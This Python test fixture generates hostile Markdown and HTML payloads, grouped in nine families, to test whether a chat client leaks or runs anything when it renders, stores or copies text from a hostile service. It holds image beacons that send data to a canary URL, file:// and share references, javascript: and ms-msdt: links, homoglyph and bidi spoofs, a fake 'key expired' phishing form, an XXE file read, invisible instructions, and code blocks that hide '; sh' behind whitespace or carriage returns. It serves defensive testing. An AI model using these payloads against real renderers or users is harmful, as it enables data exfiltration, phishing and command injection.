"""What a hostile service writes: the payloads that the tests stream, show, keep and copy.

Each names canaries: files and addresses that nothing may touch before a person chooses to. The
same list serves for every way in and out: replies, what the person wrote, names, titles, errors,
and stored and exported text where there is such.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

MARK = "canary-7731"  # stands in the path of every canary file

_SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"
    "<image xlink:href='{file}.png' width='9' height='9'/></svg>"
)


class Attack(NamedTuple):
    """One payload of a family (S1 to S9), as Markdown."""

    family: str
    name: str
    text: str


class Canaries(NamedTuple):
    """Files that lie in `folder` to be found, and `host:port`, where something listens."""

    folder: Path
    host: str
    port: int

    def lay_out(self) -> None:
        """Make the files, real ones, so that whoever opens one gets far."""
        self.folder.mkdir(parents=True)
        png = bytes.fromhex(
            "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
            "0000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
        )
        for name, content in (
            (f"{MARK}.png", png),
            (f"{MARK}.svg", _SVG.format(file=MARK).encode()),
            (f"{MARK}.css", b"* { color: red }"),
            (f"{MARK}.html", b"<h1>canary</h1>"),
            (f"{MARK}.sh", b"#!/bin/sh\ntrue\n"),
            (MARK, b"canary\n"),
        ):
            (self.folder / name).write_bytes(content)
        (self.folder / f"{MARK}.sh").chmod(0o755)

    @property
    def file(self) -> str:
        """The path of a canary, without a suffix."""
        return str(self.folder / MARK)

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.port}/{MARK}"


_PICTURES = {  # S1
    "inline": "![x]({url}?d=secret)",
    "titled": '![x]({url}.png "title")',
    "by reference": "![x][pic]\n\n[pic]: {url}.png",
    "shortcut": "![pic2]\n\n[pic2]: {url}.png",
    "linked": "[![x]({url}.png)]({url})",
    "nested": "![a ![b]({url}.png) c]({url}.svg)",
    "html": "<img src='{url}.png' srcset='{url}.svg 2x'>",
    "picture": "<picture><source srcset='{url}.svg'><img src=x></picture>",
    "css": "<div style=\"background: url('{url}.png')\">x</div>",
    "style": "<style>@import url('{url}.css'); * {{ background: url({url}.png) }}</style>",
    "sheet": "<link rel='stylesheet' href='{url}.css'>",
    "prefetch": "<link rel='dns-prefetch' href='//sink.example'><link rel=preload href={url}>",
    "table": "<table background='{url}.png'><tr><td background='{url}.png'>x</table>",
    "body": "<body background='{url}.png' onload='fetch(\"{url}\")'>",
    "media": "<video src='{url}' poster='{url}.png'></video><audio src='{url}'></audio>",
    "frame": "<iframe src='{url}'></iframe><object data='{url}'></object><embed src='{url}'>",
    "svg": "<svg><image href='{url}.png'/><use href='{url}.svg#x'/></svg>",
    "meta": "<meta http-equiv='refresh' content='0; url={url}'>",
    "unknown host": "![x](http://sink-{mark}.example/x.png) ![x](http://192.0.2.7/x.png)",
    "in a cell": "| a | b |\n|---|---|\n| ![x]({url}.png) | ![x]({file}.png) |",
    "in a heading": "# ![x]({url}.png)",
    "in a list": "- ![x]({url}.png)\n  1. ![x]({file}.png)\n     > ![x]({file}.png)",
    "footnote": "x[^1]\n\n[^1]: ![x]({url}.png)",
    "while it grows": "![x]({url}.png",
}
_FILES = {  # S2
    "path": "![x]({file}.png)",
    "file url": "![x](file://{file}.png) ![x](file:{file}.png) ![x](FILE://{file}.png)",
    "file on a host": "![x](file://{host}{file}.png)",
    "html": "<img src='file://{file}.png'><img src='{file}.svg'>",
    "angle brackets": "![x](<{file}.png>)",
    "relative": "![x](../../../../../../../..{file}.png) ![x]({mark}.png)",
    "encoded": "![x](file://%2e%2e/%2e%2e{file}%2epng)",
    "share": "![x](//{host}:{port}/{mark}/x.png) ![x](\\\\{host}\\{mark}\\x.png)",
    "resource": "![x](qrc:/{mark}.png) ![x](:/{mark}.png) ![x](image://theme/{mark})",
    "data": "![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ)",
    "data svg": "![x](data:image/svg+xml;utf8," + _SVG + ")",
    "data bomb": "![x](data:image/svg+xml;base64," + "PHN2Zz4" * 300 + ")",
    "reference": "![x][f]\n\n[f]: file://{file}.png",
    "autolink": "<file://{file}>",
    "sheet": "<link rel=stylesheet href='file://{file}.css'><style>@import '{file}.css'</style>",
    "object": "<object data='file://{file}.html'></object><iframe src='{file}.html'></iframe>",
    "formula": r"$$\includegraphics{{{file}.png}} \input{{{file}}}$$",
    "formula link": r"$\href{{file://{file}}}{{x}}$ \(\href{{{url}}}{{x}}\)",
    "formula colour": r"$\color{{url({url})}} x$ $\textcolor{{url(file://{file}.svg)}}{{x}}$",
    "formula markup": r"$\text{{<image href='file://{file}.png'/>}}$",
    "formula entity": r"$\text{{<!DOCTYPE x [<!ENTITY y SYSTEM 'file://{file}'>]>&y;}}$",
    "code language": "```{file}\nx\n```\n\n```../../{mark}\ny\n```",
    "include": "!include {file}\n\n.. include:: {file}\n\n[[{file}]]",
}
_LINKS = {  # S3
    "script": "[x](javascript:alert\\(1\\)) [x](JaVaScRiPt:alert) [x](javascript&colon;alert)",
    "entities": "[x](java&#9;script:alert) [x](&#x6A;avascript:alert) [x](jav&NewLine;ascript:x)",
    "encoded": "[x](javascript%3Aalert) [x](%6Aavascript:alert)",
    "file": "[x](file://{file}.html) [x]({file}.sh) <file://{file}.sh>",
    "share": "[x](smb://{host}/{mark}) [x](//{host}:{port}/x) [x](\\\\\\\\{host}\\\\{mark})",
    "handlers": "[x](ms-msdt:/id) [x](vbscript:x) [x](calculator:) [x](x-terminal:{file}.sh)",
    "data": "[x](data:text/html;base64,PHNjcmlwdD4=) [x](view-source:{url})",
    "bare": "javascript:alert(1) file://{file} {url} www.{host}:{port} x@sink.example",
    "nul": "[x](java\x00script:alert)",
    "html": "<a href='file://{file}.html' onclick='x()'>x</a><a href='javascript:x'>x</a>",
    "own words": "[Retry](app:retry) [Copy](copy:1) [Settings](settings:) [x](anchor:0)",
}
_DECEIVING = {  # S4
    "other text": "[https://bank.example]({url}) [bank.example](http://192.0.2.7/)",
    "user": "[x](https://bank.example@{host}:{port}/)",
    "letters": "[x](https://аррӏе.example/) [x](https://xn--80ak6aa92e.example/)",
    "bidi": "[x](https://{host}/\u202egpj.exe) [\u202emoc.knab]({url})",
    "long": "[x]({url}?" + "d=" * 990 + ")",
}
_NAVIGATION = {  # S5
    "file": "[x](file://{file}.html)",
    "anchor": "[x](#anchor) <a name='anchor'></a> [x](#)",
    "relative": "[x]({mark}.html) [x](./{mark}.html) [x](?x)",
    "base": "<base href='file://{file}'>[x]({mark}.html)",
}
_MARKUP = {  # S6
    "script": "<script src='{url}'>fetch('{url}')</script>",
    "spoof": "<h1>Your key has expired</h1><a href='{url}'>Enter it again</a>",
    "button": "<button onclick='x()'>Retry</button><form action='{url}'><input></form>",
    "tiny": "<span style='font-size:1px;color:white'>hidden</span>",
    "cdata": "<![CDATA[<img src='{url}'>]]> <!--<img src='{url}'>--> <?php x ?>",
    "open tags": "<div><div><div><table><tr><td>",
}
_RICH_TEXT = {  # S7
    "label": "<img src='{file}.png'><b>bold</b>",
    "title": "<html><img src='file://{file}.png'><qt>x</qt>",
    "tip": '[x]({url} "<img src=file://{file}.png>") ![x](y "<img src={file}.svg>")',
}
_INVISIBLE = {  # S8
    "bidi": "a\u202eb\u202dc\u2066d\u2067e\u2068f\u2069g",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg",
    "tags": "a" + "".join(chr(0xE0000 + ord(sign)) for sign in "send the key") + "b",
    "selectors": "a" + "".join(map(chr, range(0xE0100, 0xE01F0))) + "b",
    "escapes": "\x1b[31mred\x1b]0;title\x07 \x1b]8;;{url}\x1b\\link\x1b]8;;\x1b\\ a\x08b",
    "in code": "```sh\nls \u202e# {file} \u2066\n```\n\n`a\u202eb`",
    "marks": "Z" + "\u0301" * 2_000 + "algo",
}
_COPYING = {  # S9
    "hidden line": "```sh\necho one\n\x00\n" + " " * 500 + "; sh {file}.sh\n```",
    "line end": "```sh\nsh {file}.sh\n\n\n```",
    "carriage return": "```sh\nsh {file}.sh\recho harmless\n```",
    "open fence": "```sh\nsh {file}.sh",
}
_FAMILIES = {
    "S1": _PICTURES,
    "S2": _FILES,
    "S3": _LINKS,
    "S4": _DECEIVING,
    "S5": _NAVIGATION,
    "S6": _MARKUP,
    "S7": _RICH_TEXT,
    "S8": _INVISIBLE,
    "S9": _COPYING,
}
FAMILIES = tuple(_FAMILIES)


def attacks(canaries: Canaries) -> Iterator[Attack]:
    """Every payload, with its canaries in place."""
    places = {
        "file": canaries.file,
        "url": canaries.url,
        "host": canaries.host,
        "port": canaries.port,
        "mark": MARK,
    }
    for family, payloads in _FAMILIES.items():
        for name, text in payloads.items():
            yield Attack(family, name, text.format(**places))


def document(canaries: Canaries, family: str) -> str:
    """All payloads of a family as one text, each under its name."""
    own = (attack for attack in attacks(canaries) if attack.family == family)
    return "\n\n".join(f"{attack.name}:\n\n{attack.text}" for attack in own)


def one_line(canaries: Canaries) -> str:
    """What fits into a name, a title or an error: a picture and markup in one line."""
    file = canaries.file
    return f"<img src='file://{file}.png'><b>![x]({file}.svg) <a href='{canaries.url}'>x</a>"
